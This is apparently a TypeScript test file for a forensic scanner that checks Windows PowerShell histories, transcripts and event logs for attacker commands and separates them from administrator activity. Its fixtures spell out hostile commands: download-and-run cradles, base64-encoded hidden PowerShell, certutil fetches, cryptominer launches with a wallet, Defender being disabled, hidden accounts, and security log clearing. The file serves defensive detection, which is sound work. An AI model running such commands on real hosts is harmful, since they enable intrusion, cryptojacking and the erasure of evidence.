/** Commands that were typed or logged on Windows hosts: those of attackers are told, those of administrators are not. */
import { describe, expect, test } from 'bun:test';
import { given } from '../../src/formats/evtx/binxml.fixture.ts';
import type { GivenEvent } from '../../src/formats/evtx/evtx.fixture.ts';
import { emptyConfig } from '../../src/model/config.ts';
import type { ScanResult } from '../../src/model/result.ts';
import { type HostSpec, scanSpec } from './windows-host.fixture.ts';
import { at, auditing, look } from './windows-logs.fixture.ts';

const wallet =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const history =
  'Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt';
const typed = (...commands: readonly string[]): HostSpec => ({
  files: { [history]: `${commands.join('\r\n')}\r\n` },
});

const stars = '*'.repeat(22);
/** A transcript of Windows PowerShell 5.1, in the zone of the test hosts (UTC+8). */
const transcript = (
  commands: readonly (readonly [folder: string, command: string])[],
  application = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
): string =>
  [
    ...[stars, 'Windows PowerShell transcript start', 'Start time: 20260301110500', 'Username: WEB-07\\ops'],
    ...[
      'RunAs User: WEB-07\\ops',
      'Configuration Name: ',
      'Machine: WEB-07 (Microsoft Windows NT 10.0.17763.0)',
    ],
    ...[`Host Application: ${application}`, 'Process ID: 4711', 'PSVersion: 5.1.17763.5458', stars],
    ...commands.map(([folder, command]) => `PS ${folder}> ${command}`),
    ...[stars, 'Windows PowerShell transcript end', 'End time: 20260301111000', stars],
  ].join('\r\n');

/** Severity, what is said of the heaviest, and how many lines show it. */
const told = ({ findings }: ScanResult): readonly string[] =>
  findings
    .filter(({ rule }) => rule.startsWith('command.'))
    .map(
      ({ severity, texts, evidence }) => `${severity}: ${texts.en.title.split(': ')[1]} (${evidence.length})`,
    );
const fetched = 'a program was fetched from the network and run';
const mined = 'a miner was started or set up';
const unguarded = 'a protection was switched off';

describe('what an attacker typed', () => {
  const cases: Readonly<Record<string, readonly [commands: readonly string[], told: readonly string[]]>> = {
    'fetched and run in one line': [
      ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"],
      [`high: ${fetched} (1)`],
    ],
    'fetched on one line and run on another, below the folder where he was': [
      ['cd C:\\Users\\Administrator', 'iwr http://203.0.113.9/x.exe -OutFile x.exe', 'dir', '.\\x.exe'],
      [`high: ${fetched} (1)`],
    ],
    'a miner that is started': [
      [`.\\svc.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet} -p x`],
      [`high: ${mined} (1)`],
    ],
    'settings of a miner that are written': [
      [
        `Set-Content config.json '{"pools":[{"url":"stratum+tcp://pool.example.com:3333","user":"${wallet}"}]}'`,
      ],
      [`high: ${mined} (1)`],
    ],
    'in layers of base64': [
      [`powershell -w hidden -enc ${utf16("iex(irm 'http://203.0.113.9/q')")}`],
      [`high: ${fetched} (1)`],
    ],
    'a drive that the scanner is told to pass over, and a hidden account': [
      ['Add-MpPreference -ExclusionPath C:\\', 'net user admin$ P@ssw0rd1 /add'],
      [`high: ${unguarded} (2)`],
    ],
    'a drive that the scanner is told to pass over, alone': [
      ['Add-MpPreference -ExclusionPath "C:\\"'],
      [`medium: ${unguarded} (1)`],
    ],
    'a mining program of its makers': [
      [
        'iwr https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip -OutFile a.zip',
      ],
      [`medium: ${mined} (1)`],
    ],
    'four furtive things at once, of which none says much': [
      [
        'Set-MpPreference -DisableRealtimeMonitoring $true',
        'net user svc P@ssw0rd1 /add',
        'attrib +h +s C:\\ProgramData\\x',
        'schtasks /create /tn Sync /tr C:\\ProgramData\\x\\y.exe /sc minute',
        'wevtutil cl Security',
      ],
      ['medium: several things were done at once that attackers do together (5)'],
    ],
  };
  for (const [name, [commands, expected]] of Object.entries(cases)) {
    test(name, async () => {
      const result = await scanSpec(typed('whoami', ...commands, 'exit'));
      expect(told(result)).toEqual(expected);
      expect([result.verdict, result.state]).toEqual(['suspicious', 'traces']);
    });
  }

  test('is told with the line, in both languages, and nothing is said to run', async () => {
    const result = await scanSpec(
      typed('whoami', `.\\x.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet}`),
    );
    const [finding] = result.findings.filter(({ rule }) => rule.startsWith('command.'));
    expect(finding?.evidence[0]).toMatchObject({ line: 2 });
    expect(finding?.texts.en.title).toBe(
      'Commands of an attacker were run as Administrator: a miner was started or set up',
    );
    expect(finding?.texts['zh-CN'].title).toBe('账户 Administrator 执行过攻击者的命令：启动或配置挖矿程序');
    expect(result.miners).toEqual([]);
  });
});

describe('what an administrator typed', () => {
  const honest: Readonly<Record<string, readonly string[]>> = {
    'to set up a server': [
      "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      'iwr -useb get.scoop.sh | iex',
      'choco install -y git',
      'Invoke-WebRequest https://download.example.com/agent.msi -OutFile C:\\Temp\\agent.msi',
      "Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\agent.msi /qn' -Wait",
      'Add-MpPreference -ExclusionPath "C:\\Program Files\\Microsoft SQL Server"',
      'Add-MpPreference -ExclusionProcess sqlservr.exe',
      'Set-MpPreference -DisableRealtimeMonitoring $true',
      'New-LocalUser -Name svc_backup -Password $pw',
      'net localgroup administrators li /add',
      'schtasks /create /tn Backup /tr "C:\\Scripts\\backup.cmd" /sc daily /st 02:00',
      'iex (iwr http://10.0.0.5/bootstrap.ps1 -UseBasicParsing)',
      'netsh advfirewall set allprofiles state off',
    ],
    'to look for a miner and to end it': [
      'Get-Process | Sort-Object CPU -Descending | Select-Object -First 10',
      "Get-ChildItem C:\\ -Recurse | Select-String 'stratum+tcp://pool.supportxmr.com:3333'",
      'Get-WmiObject -Namespace root\\subscription -Class CommandLineEventConsumer',
      'Stop-Process -Name xmrig -Force',
      'schtasks /delete /tn bluetea /f',
      'Remove-Item C:\\ProgramData\\x.exe',
      'New-NetFirewallRule -DisplayName pool -RemoteAddress 203.0.113.9 -Direction Outbound -Action Block',
      'Test-NetConnection pool.supportxmr.com -Port 3333',
    ],
    'over years, a little of everything': Array.from({ length: 40 }, (_, day) => [
      'Get-Service',
      ...(day === 3 ? ['Set-MpPreference -DisableRealtimeMonitoring $true'] : []),
      ...(day === 13 ? ['net user li P@ssw0rd1 /add'] : []),
      ...(day === 23 ? ['wevtutil cl Application'] : []),
      ...(day === 33 ? ['attrib +h C:\\Data', 'schtasks /create /tn x /tr C:\\x\\y.cmd /sc daily'] : []),
      ...Array.from({ length: 8 }, () => 'dir'),
    ]).flat(),
  };
  for (const [name, commands] of Object.entries(honest)) {
    test(`${name} is left in peace`, async () => {
      const result = await scanSpec(typed(...commands));
      expect(told(result)).toEqual([]);
      expect(result.verdict).toBe('clean');
    });
  }

  test('a miner that its owner declared is his', async () => {
    const spec = typed(`C:\\Mining\\xmrig.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet}`);
    expect(told(await scanSpec(spec))).toHaveLength(1);
    const declared = { ...emptyConfig, mining: [{ exe: 'C:\\Mining\\xmrig.exe', reason: 'heating' }] };
    expect(told(await scanSpec(spec, declared))).toEqual([]);
  });
});

describe('transcripts', () => {
  const session = transcript([
    ['C:\\Users\\ops', 'whoami'],
    ['C:\\ProgramData', 'iwr http://203.0.113.9/x.exe -OutFile x.exe'],
    ['C:\\ProgramData', '.\\x.exe'],
  ]);

  test('are read among documents, in folders of a day and where a policy says, and judged', async () => {
    const name = 'PowerShell_transcript.WEB-07.AbC123_x.20260301110500.txt';
    for (const [place, software] of [
      [`Users/ops/Documents/${name}`, {}],
      [`Users/ops/Documents/20260301/${name}`, {}],
      [
        `Transcripts/20260301/${name}`,
        {
          'Policies\\Microsoft\\Windows\\PowerShell\\Transcription': {
            EnableTranscripting: 1,
            OutputDirectory: 'C:\\Transcripts\\',
          },
        },
      ],
    ] as const) {
      const result = await scanSpec({ software, files: { [place]: session } });
      expect(told(result)).toEqual([`high: ${fetched} (1)`]);
      expect(result.findings[0]?.texts.en.title).toContain('run as ops: ');
    }
  });

  test('stand on the timeline in the time of the host, and never as certain', async () => {
    const { events } = await look(
      { files: { 'Users/ops/Documents/PowerShell_transcript.WEB-07.a.20260301110500.txt': session } },
      {},
    );
    expect(events.filter(({ what }) => what === 'command')).toMatchObject([
      { us: at('2026-03-01T03:05:00Z'), certain: false, account: 'ops', command: 'whoami' },
      { command: 'iwr http://203.0.113.9/x.exe -OutFile x.exe' },
      { command: '.\\x.exe' },
    ]);
  });

  test('of an honest day are left in peace, and the command line of PowerShell itself is read', async () => {
    const file = 'Users/ops/Documents/PowerShell_transcript.WEB-07.a.20260301110500.txt';
    const honest = await scanSpec({
      files: {
        [file]: transcript(
          [['C:\\Users\\ops', 'Get-Service | Where-Object Status -eq Stopped']],
          'powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\nightly.ps1',
        ),
      },
    });
    expect(told(honest)).toEqual([]);
    expect(honest.verdict).toBe('clean');
    const encoded = `powershell.exe -nop -w hidden -e ${utf16("iex(irm 'http://203.0.113.9/q')")}`;
    const infected = await scanSpec({ files: { [file]: transcript([], encoded) } });
    expect(told(infected)).toEqual([`high: ${fetched} (1)`]);
  });

  test('that are none, are cut and never end are told, and end nothing', async () => {
    const result = await scanSpec({
      files: {
        'Users/ops/Documents/PowerShell_transcript.WEB-07.a.1.txt': 'no transcript',
        'Users/ops/Documents/PowerShell_transcript.WEB-07.b.2.txt': session.slice(0, 300),
        'Users/ops/Documents/PowerShell_transcript.WEB-07.c.3.txt': `${transcript([])}\r\nPS C:\\> ${'('.repeat(60_000)}`,
        [history]: `${"$a='".repeat(9_000)}\r\n${'a`\n'.repeat(10_000)}\u202e\0</script>\r\n${'iex '.repeat(9_000)}`,
      },
    });
    expect(
      result.sources.some(
        ({ artifact, status }) => artifact === 'windows.typed-commands' && status === 'error',
      ),
    ).toBe(true);
    expect(told(result)).toEqual([]);
  }, 60_000);
});

test('a history of bombs is read in part, and that is told', async () => {
  const bombs = Array.from(
    { length: 20_000 },
    (_, index) => `$a='${'x'.repeat(60)}'*9; iex ($a+[char]${index}+"${'`a'.repeat(30)}")`,
  );
  const result = await scanSpec(typed(...bombs, "iex (irm 'http://203.0.113.9/a')"));
  expect(
    result.sources.some(
      ({ artifact, status }) => artifact === 'windows.typed-commands' && status === 'truncated',
    ),
  ).toBe(true);
}, 60_000);

const block = (
  time: string,
  text: string,
  part: readonly [number, number] = [1, 1],
  id = 'a',
): GivenEvent => ({
  provider: 'Microsoft-Windows-PowerShell',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  computer: 'WEB-07',
  eventId: 4104,
  us: at(time),
  data: {
    MessageNumber: given.i32(part[0]),
    MessageTotal: given.i32(part[1]),
    ScriptBlockText: text,
    ScriptBlockId: id,
    Path: '',
  },
});
const started = (time: string, command: string, account = 'ops'): GivenEvent => ({
  provider: auditing,
  channel: 'Security',
  computer: 'WEB-07',
  eventId: 4688,
  us: at(time),
  data: {
    SubjectUserName: account,
    NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
    NewProcessId: given.hex64(0x1234n),
    CommandLine: command,
  },
});
const powershellLog = 'Microsoft-Windows-PowerShell%4Operational';

describe('what the event logs keep', () => {
  test('a script block that stands in parts is read as one', async () => {
    const { result, events } = await look(
      {},
      {
        [powershellLog]: [
          block('2026-03-01T03:00:00Z', '$u = "http://203.0.1', [1, 3], 'b1'),
          block('2026-03-01T03:00:00Z', 'Get-Date', [1, 1], 'b2'),
          block('2026-03-01T03:00:00Z', '13.9/a.ps1"\r\niex (New-Object Net.Web', [2, 3], 'b1'),
          block('2026-03-01T03:00:01Z', 'Client).DownloadString($u)', [3, 3], 'b1'),
        ],
      },
    );
    expect(told(result)).toEqual([`high: ${fetched} (1)`]);
    expect(events.filter(({ what }) => what === 'command')).toHaveLength(2);
    expect([result.verdict, result.state]).toEqual(['suspicious', 'traces']);
  });

  test('of a block whose beginning was written over the rest is read', async () => {
    const { result } = await look(
      {},
      {
        [powershellLog]: [block('2026-03-01T03:00:00Z', "iex (irm 'http://203.0.113.9/a')", [2, 3], 'b1')],
      },
    );
    expect(told(result)).toEqual([`high: ${fetched} (1)`]);
  });

  test('a miner that was started as a process, and a program that was fetched before', async () => {
    const { result } = await look(
      {},
      {
        Security: [
          started(
            '2026-03-01T03:00:00Z',
            'certutil -urlcache -split -f http://203.0.113.9/x.exe C:\\Perf\\x.exe',
          ),
          started('2026-03-01T03:01:00Z', 'C:\\Perf\\x.exe'),
          started(
            '2026-03-01T03:02:00Z',
            `C:\\Perf\\y.exe -o stratum+ssl://pool.example.com:443 -u ${wallet}`,
          ),
        ],
      },
    );
    expect(told(result)).toEqual([`high: ${fetched} (2)`]);
  });

  test('of an honest server are left in peace', async () => {
    const { result } = await look(
      {},
      {
        Security: Array.from({ length: 300 }, (_, index) =>
          started(
            '2026-03-01T03:00:00Z',
            `C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s S${index}`,
            'WEB-07$',
          ),
        ).concat([
          started(
            '2026-03-01T03:00:00Z',
            'powershell -NoProfile -NonInteractive -EncodedCommand '.concat(
              utf16('Get-Service | ConvertTo-Json'),
            ),
          ),
          started('2026-03-01T03:00:10Z', 'cmd.exe /c "wevtutil qe Security /c:1"'),
          started(
            '2026-03-01T03:00:20Z',
            'schtasks.exe /create /tn Update /tr "C:\\Program Files\\Tool\\u.exe" /sc daily',
          ),
        ]),
        [powershellLog]: [
          block(
            '2026-03-01T03:00:00Z',
            'function Get-Thing { [CmdletBinding()] param($Name) Invoke-RestMethod "https://api.example.com/$Name" }',
          ),
          block(
            '2026-03-01T03:00:00Z',
            "$pools = 'stratum+tcp://a.example.com:1','stratum+tcp://b.example.com:1','stratum+tcp://c.example.com:1','stratum+tcp://d.example.com:1','stratum+tcp://e.example.com:1','stratum+tcp://f.example.com:1','stratum+tcp://g.example.com:1'; foreach ($p in $pools) { Block-Pool $p }",
          ),
        ],
      },
    );
    expect(told(result)).toEqual([]);
    expect(result.verdict).toBe('clean');
  });

  test('blocks without end and parts that contradict each other end nothing', async () => {
    const { result } = await look(
      {},
      {
        [powershellLog]: Array.from({ length: 300 }, (_, index) =>
          block('2026-03-01T03:00:00Z', 'x'.repeat(500), [1 + (index % 5), 9_000_000], `b${index}`),
        ),
      },
    );
    expect(told(result)).toEqual([]);
  });
});
